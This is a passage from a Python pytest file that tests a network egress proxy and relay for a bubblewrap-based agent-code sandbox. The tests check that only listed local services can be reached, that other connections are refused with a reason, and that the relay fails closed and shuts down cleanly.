                  f"s.sendall(b'GET http://127.0.0.1:{web.port}/via-enter HTTP/1.1\\r\\n\\r\\n');"
                  f"print(s.makefile('rb').read().decode().splitlines()[-1])")
        argv = relay_prefix(ENTER_SCRIPT, port, proxy.socket_path) + [sys.executable, "-I", "-S", "-c", script]
        start = time.monotonic()
        proc = subprocess.run(argv, capture_output=True, text=True, timeout=20)
        elapsed = time.monotonic() - start
        deadline = time.monotonic() + 3
        while _processes_naming(str(proxy.socket_path)) and time.monotonic() < deadline:
            time.sleep(0.05)
        left = _processes_naming(str(proxy.socket_path))
    assert proc.returncode == 0 and proc.stdout.strip() == f"SAW GET /via-enter HTTP/1.1 host=127.0.0.1:{web.port}", proc
    assert left == [] and elapsed < 10


def test_the_relay_is_not_the_programs_child_and_survives_a_closed_stdin(web):
    """A program that waits for all its children must not wait for the relay; a command started
    with its stdin closed still gets a working relay (its descriptors did not land on fd 0)."""
    port = _free_port()
    script = (f"import os, socket; print(repr(open(f'/proc/self/task/{{os.getpid()}}/children').read()));"
              f"s = socket.create_connection(('127.0.0.1', {port}));"
              f"s.sendall(b'GET http://127.0.0.1:{web.port}/x HTTP/1.1\\r\\n\\r\\n');"
              f"print(s.makefile('rb').read().decode().splitlines()[-1])")
    with _proxy(["127.0.0.1"]) as proxy:
        argv = relay_prefix(ENTER_SCRIPT, port, proxy.socket_path) + [sys.executable, "-I", "-S", "-c", script]
        proc = subprocess.run(["bash", "-c", '"$@" <&-', "bash", *argv], capture_output=True, text=True, timeout=20)
    assert proc.returncode == 0 and proc.stdout.splitlines() == ["''", f"SAW GET /x HTTP/1.1 host=127.0.0.1:{web.port}"], proc


@pytest.mark.parametrize("args,code,message", [
    (["--relay", "{busy}", "/nonexistent.sock", "--", "true"], 125, "starting the network relay"),
    (["--relay", "0", "/x.sock", "--", "true"], 2, "out of range"),
    (["--relay", "80"], 2, "usage"),
    (["--", "/nonexistent/program"], 127, "cannot run"),
    ([], 2, "usage"),
])
def test_enter_fails_closed_with_the_reason(args, code, message):
    with socket.create_server(("127.0.0.1", 0)) as busy:
        args = [a.format(busy=busy.getsockname()[1]) for a in args]
        proc = subprocess.run([sys.executable, "-I", "-S", str(ENTER_SCRIPT), *args],
                              capture_output=True, text=True, timeout=20)
    assert proc.returncode == code and message in proc.stderr, proc


# ---- end to end: real bubblewrap, real curl -------------------------------------------------

BWRAP = shutil.which("bwrap") or "/usr/bin/bwrap"
CURL = shutil.which("curl")


def _bwrap_works() -> str | None:
    if not os.path.exists(BWRAP):
        return "bubblewrap is not installed"
    if CURL is None:
        return "curl is not installed"
    probe = subprocess.run([BWRAP, "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--unshare-net",
                            "--unshare-pid", "--die-with-parent", "--", "true"], capture_output=True, text=True)
    return None if probe.returncode == 0 else f"bubblewrap cannot make namespaces here: {probe.stderr.strip()}"


def _in_wall(proxy: EgressProxy, command: str, *, pid_namespace: bool = True, env: dict | None = None,
             timeout: float = 30) -> subprocess.CompletedProcess:
    sock = proxy.socket_path
    assert sock is not None
    argv = [BWRAP, "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc", "--unshare-net",
            *(["--unshare-pid"] if pid_namespace else []), "--die-with-parent",
            "--bind", str(sock.parent), str(sock.parent), "--",
            *relay_prefix(ENTER_SCRIPT, PROXY_PORT, sock), "bash", "-c", command]
    return subprocess.run(argv, capture_output=True, text=True, timeout=timeout, env=env)


needs_bwrap = pytest.mark.skipif(_bwrap_works() is not None, reason=str(_bwrap_works()))


@needs_bwrap
def test_in_the_wall_an_allowed_service_is_reached_and_nothing_else(web, echo):
    x = f"{CURL} -s --max-time 5 -x http://127.0.0.1:{PROXY_PORT}"
    command = (f"{x} http://127.0.0.1:{web.port}/allowed; echo \" rc=$?\"; "
               f"{x} -p http://127.0.0.1:{web.port}/tunnelled; echo \" rc=$?\"; "
               f"{x} http://127.0.0.1:{echo.port}/refused; echo \" rc=$?\"; "
               f"{x} -p http://127.0.0.1:{echo.port}/refused-tunnel; echo \" rc=$?\"; "
               f"{CURL} -s --max-time 5 http://127.0.0.1:{web.port}/direct; echo \" direct=$?\"; "
               f"{CURL} -s --max-time 5 --noproxy '*' http://10.0.0.1:{web.port}/ --connect-timeout 2; "
               f"echo \" outside=$?\"")
    with _proxy([f"127.0.0.1:{web.port}"]) as proxy:
        done = _in_wall(proxy, command)
        decisions = proxy.decisions
    refused = f"agent-code sandbox: network access to 127.0.0.1:{echo.port} refused: no rule lists this address " \
              f"on port {echo.port} (only {web.port}) (an address is allowed only when listed literally)"
    assert done.stdout.splitlines() == [
        f"SAW GET /allowed HTTP/1.1 host=127.0.0.1:{web.port} rc=0",
        f"SAW GET /tunnelled HTTP/1.1 host=127.0.0.1:{web.port} rc=0",
        refused, " rc=0",             # a plain request: the reason is the answer's body
        " rc=56",                     # a tunnel: curl says the CONNECT was answered 403
        " direct=7", " outside=7",    # no route: the namespace has only its own lo
    ], done
    assert echo.accepted == 0 and len(web.seen) == 2
    assert [d.allowed for d in decisions] == [True, True, False, False]


@needs_bwrap
def test_in_the_wall_the_proxy_variables_carry_ordinary_clients_to_the_proxy():
    """curl and Python's urllib with only the environment: a name no rule allows is refused by
    the proxy (its reason in the answer), not by a failed lookup."""
    env = {**os.environ, **proxy_env(PROXY_PORT)}
    py = f"{sys.executable} -I -S -c"
    command = (f"{CURL} -s --max-time 5 http://pkgs.example/simple/; echo \" rc=$?\"; "
               f"{CURL} -s --max-time 5 https://pkgs.example/simple/; echo \" rc=$?\"; "
               f"{py} 'import urllib.request as u\ntry: u.urlopen(\"http://pkgs.example/\", timeout=5)\n"
               f"except Exception as e: print(e.code, e.read().decode().strip())'")
    with _proxy(["registry.example"]) as proxy:
        done = _in_wall(proxy, command, env=env)
        decisions = proxy.decisions
    refused = "agent-code sandbox: network access to pkgs.example:80 refused: no network allow rule names pkgs.example"
    assert done.stdout.splitlines() == [refused, " rc=0", " rc=56", "403 " + refused], done
    assert [(d.host, d.port, d.allowed) for d in decisions] == [("pkgs.example", 80, False),
                                                                ("pkgs.example", 443, False),
                                                                ("pkgs.example", 80, False)]


@needs_bwrap
def test_in_the_wall_without_a_pid_namespace_the_relay_ends_with_the_command(web):
    with _proxy(["127.0.0.1"]) as proxy:
        start = time.monotonic()
        done = _in_wall(proxy, f"{CURL} -s --max-time 5 -x http://127.0.0.1:{PROXY_PORT} "
                               f"http://127.0.0.1:{web.port}/x", pid_namespace=False)
        elapsed = time.monotonic() - start
        deadline = time.monotonic() + 3
        while _processes_naming(str(proxy.socket_path)) and time.monotonic() < deadline:
            time.sleep(0.05)
        left = _processes_naming(str(proxy.socket_path))
    assert done.stdout == f"SAW GET /x HTTP/1.1 host=127.0.0.1:{web.port}" and elapsed < 10, done
    assert left == []
